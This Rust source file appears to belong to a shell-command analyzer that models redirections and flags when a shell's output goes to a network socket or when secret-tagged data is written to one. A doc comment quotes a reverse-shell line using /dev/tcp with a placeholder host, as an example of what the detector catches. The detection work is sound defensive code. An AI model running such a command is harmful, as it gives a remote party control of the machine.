//! Redirections: what a command reads instead of the terminal, and where its output goes.

use crate::eval::Walk;
use crate::eval::env::Env;
use crate::eval::file_effects::{Write, is_socket};
use crate::eval::value::{Stream, Tags};
use crate::shell::{Redirect, RedirectOp, Target};
use crate::{programs, rules};

/// A file that takes the output of a command.
pub struct Output {
    target: String,
    append: bool,
    /// The normal output, not only the errors.
    stdout: bool,
}

impl Walk<'_> {
    /// The stream the command reads, and the files it writes.
    pub fn redirects(
        &mut self,
        env: &mut Env,
        redirects: &[Redirect],
        stdin: &Stream,
    ) -> (Stream, Vec<Output>) {
        let mut input = stdin.clone();
        let mut outputs = Vec::new();
        for redirect in redirects {
            let is_stdin = redirect.fd.unwrap_or(0) == 0;
            let stream = match (&redirect.target, redirect.op) {
                (Target::Heredoc(body), _) => {
                    let text = body.get().map(|word| self.single(env, word, false)).unwrap_or_default();
                    Stream::text(text)
                }
                (Target::Word(word), RedirectOp::Text) => Stream::text(self.single(env, word, false) + "\n"),
                (Target::Word(word), RedirectOp::Duplicate) => {
                    self.single(env, word, false);
                    continue;
                }
                (Target::Word(word), op) => {
                    // More than one word is an error to the shell, but not before it was thought of here.
                    let targets = self.fields(env, word);
                    if op != RedirectOp::Read {
                        let stdout = matches!(redirect.fd, None | Some(1));
                        let append = op != RedirectOp::Write;
                        let files = targets.iter().cloned();
                        outputs.extend(files.map(|target| Output { target, append, stdout }));
                    }
                    if !matches!(op, RedirectOp::Read | RedirectOp::ReadWrite) {
                        continue;
                    }
                    let mut stream = Stream::None;
                    for target in &targets {
                        let next = match target.as_str() {
                            "/dev/stdin" | "/dev/fd/0" | "/proc/self/fd/0" => stdin.clone(),
                            target => self.read(env, target),
                        };
                        stream = self.origins.join(stream, next);
                    }
                    stream
                }
            };
            if is_stdin {
                input = stream;
            }
        }
        (input, outputs)
    }

    /// `bash -i >& /dev/tcp/host/80`: whoever is at the other end holds the shell.
    pub fn look_for_given_shell(&mut self, env: &Env, argv: &[String], outputs: &[Output]) {
        let is_shell = argv.first().is_some_and(|name| programs::is_shell(name));
        if is_shell && outputs.iter().any(|output| is_socket(&output.target)) {
            self.found(&env.world, &rules::NETWORK_SHELL, argv.join(" "));
        }
    }

    /// Judges the files that take `out`; returns what is left for the next in the pipe.
    pub fn outputs(&mut self, env: &mut Env, outputs: Vec<Output>, out: Stream, no_command: bool) -> Stream {
        let mut rest = out.clone();
        for output in outputs {
            let content = if output.stdout { out.clone() } else { Stream::Data(Tags::NONE) };
            let nothing = match &content {
                Stream::Text(text, _) => text.is_empty(),
                Stream::None => no_command,
                Stream::Data(_) => false,
            };
            // What goes to the pipe by another name goes to the pipe.
            if matches!(output.target.as_str(), "/dev/stdout" | "/dev/fd/1" | "/proc/self/fd/1") {
                continue;
            }
            if is_socket(&output.target) {
                if content.tags().has(Tags::SECRET) {
                    self.found(&env.world.clone(), &rules::NETWORK_SECRET, format!("> {}", output.target));
                }
                continue;
            }
            let how = match (output.append, nothing && output.stdout) {
                (true, _) => Write::Append,
                (false, true) => Write::Empty,
                (false, false) => Write::Overwrite,
            };
            self.write(env, &output.target, how, &format!("> {}", output.target));
            self.remember(env, &output.target, content, output.append);
            if output.stdout {
                rest = Stream::None;
            }
        }
        rest
    }
}
